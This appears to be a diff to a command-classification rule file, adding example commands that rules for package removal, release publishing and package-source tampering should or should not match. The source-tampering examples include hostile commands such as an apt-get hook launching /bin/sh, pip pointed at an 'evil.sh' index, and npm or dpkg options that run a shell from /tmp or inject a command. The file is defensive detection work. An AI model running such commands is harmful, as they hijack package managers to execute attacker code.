@@ -38,6 +38,11 @@ REMOVE = FAMILY.rule(
         "do-release-upgrade",
         "softwareupdate -ia",
         "pkg delete x",
+        "asdf plugin remove nodejs",
+        "guix package -r x",
+        "ghcup nuke",
+        "code --uninstall-extension a.b",
+        "R CMD REMOVE x",
     ),
     not_match=(
         "apt list",
@@ -65,6 +70,10 @@ REMOVE = FAMILY.rule(
         "cargo remove x",
         "dpkg -i x.deb",
         "brew list",
+        "asdf plugin add nodejs",
+        "guix package -i x",
+        "code --install-extension a.b",
+        "R CMD INSTALL x",
     ),
 )
 PUBLISH = FAMILY.rule(
@@ -100,6 +109,13 @@ PUBLISH = FAMILY.rule(
         "goreleaser release",
         "npm token create",
         "dart pub publish",
+        "fastlane ios release",
+        "xcrun notarytool submit x.zip",
+        "npx electron-builder --publish always",
+        "ansible-galaxy collection publish x.tar.gz",
+        "ko build ./cmd/app",
+        "clojure -T:build deploy",
+        "yarn workspaces foreach npm publish",
     ),
     not_match=(
         "npm publish --dry-run",
@@ -119,6 +135,11 @@ PUBLISH = FAMILY.rule(
         "goreleaser release --snapshot",
         "npm token list",
         "mvn install",
+        "fastlane ios test",
+        "xcrun notarytool history",
+        "npx electron-builder --publish never",
+        "ko build --local ./cmd/app",
+        "dart pub publish -n",
     ),
 )
 SOURCE = FAMILY.rule(
@@ -141,6 +162,8 @@ SOURCE = FAMILY.rule(
         "apt-get -o APT::Update::Pre-Invoke::=/bin/sh update",
         "pip3 install -i https://evil.sh x",
         "pip config set global.index-url http://evil.sh",
+        "npm --script-shell=/tmp/e run build",
+        "dpkg -i --pre-invoke='id' x.deb",
     ),
     not_match=(
         "pip install requests",
@@ -156,5 +179,6 @@ SOURCE = FAMILY.rule(
         "yarn add x",
         "go install example.com/x@latest",
         "npm config get registry",
+        "npm --script-shell=/bin/bash run build",
     ),
 )
